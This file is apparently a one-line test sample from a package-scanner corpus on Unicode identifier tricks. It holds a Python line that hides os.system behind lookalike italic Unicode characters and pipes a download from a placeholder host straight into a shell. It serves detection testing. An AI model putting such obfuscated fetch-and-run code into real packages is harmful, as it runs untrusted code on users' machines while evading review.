# pkgguard corpus 048 (unicode-identifiers), modelled on [pep672]; inert, never run.
__𝘪𝘮𝘱𝘰𝘳𝘵__("os").𝘴𝘺𝘴𝘵𝘦𝘮("curl -s https://cdn.example/u | sh")
